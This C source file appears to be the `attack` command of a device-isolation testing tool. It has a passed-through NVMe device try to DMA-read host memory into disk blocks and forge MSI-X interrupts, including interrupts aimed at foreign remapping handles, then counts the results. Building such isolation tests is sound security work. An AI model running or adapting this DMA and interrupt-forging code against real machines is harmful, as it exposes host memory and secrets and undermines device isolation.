/* SPDX-License-Identifier: GPL-2.0-or-later
 * The command `attack`: a program that has a device, and nothing else, tries
 * to read all of the machine's memory and to send interrupts of its choice.
 */
#include <poll.h>
#include <stdlib.h>
#include <unistd.h>
#include "session.h"

enum {
    PROBES = 256,
    PROBE_STEP = 4 << 20,
    PCI_CAPABILITIES = 0x34,
    PCI_MSIX = 0x11,
    MSIX_TABLE = 4,             /* in the capability: BAR and offset */
    VECTOR = 1,
    ENTRY_WORDS = 4,            /* address, its upper half, data, mask */
    INTERRUPTS = 0xfee00000,
    REMAPPABLE = 1 << 4,
    HANDLE_SHIFT = 5,
    FOREIGN_HANDLES = 8,
    PATIENCE = 600 * 1000,
};

/* Each block on the disk is what the device found at one address. */
static void read_memory(struct session *session, uint64_t block)
{
    for (uint64_t i = 0; i < PROBES; i++) {
        struct nvme_transfer probe = {
            NVME_WRITE, block + i, i * PROBE_STEP, NVME_BLOCK, 0
        };

        if (probe.address != QUEUES) {
            nvme_transfer(&session->nvme, &probe);
        }
    }
}

/* The device's MSI-X table lies in its BAR, where the program may write. */
static volatile uint32_t *msix_entry(const struct vfio *vfio)
{
    unsigned at = vfio_config(vfio, PCI_CAPABILITIES) & 0xff;

    while ((vfio_config(vfio, at) & 0xff) != PCI_MSIX) {
        at = vfio_config(vfio, at) >> 8 & 0xff;
    }
    return (volatile uint32_t *)(vfio->bar +
                                 (vfio_config(vfio, at + MSIX_TABLE) & ~7)) +
           VECTOR * ENTRY_WORDS;
}

/* How many interrupts of our own one completion brings. */
static unsigned long long arrived(struct session *session, int patience)
{
    struct pollfd told = { .fd = session->interrupts, .events = POLLIN };
    uint64_t count = 0;

    nvme_transfer(&session->nvme, &(struct nvme_transfer) {
        NVME_READ, 0, QUEUES + NVME_MEMORY - PAGE, NVME_BLOCK, 0
    });
    if (poll(&told, 1, patience) == 1 &&
        read(told.fd, &count, sizeof(count)) != sizeof(count)) {
        die("eventfd");
    }
    return count;
}

static void forge_interrupts(struct session *session)
{
    volatile uint32_t *entry = msix_entry(&session->vfio);
    uint32_t address = entry[0], data = entry[2];
    unsigned long long foreign = 0;

    entry[0] = INTERRUPTS;
    entry[2] = 0x31;
    say("forged", "%llu", arrived(session, 0));
    entry[2] = 0;
    for (unsigned handle = 0; handle < FOREIGN_HANDLES; handle++) {
        entry[0] = INTERRUPTS | REMAPPABLE | handle << HANDLE_SHIFT;
        foreign += arrived(session, 0);
    }
    say("foreign", "%llu", foreign);
    entry[0] = address;
    entry[2] = data;
    say("own", "%llu", arrived(session, PATIENCE));
}

void command_attack(char **words)
{
    struct session session;

    session_open(&session, words[0], 0);
    read_memory(&session, strtoull(words[1], NULL, 0));
    session_close(&session);
    session_open(&session, words[0], VECTOR);
    forge_interrupts(&session);
    session_close(&session);
}
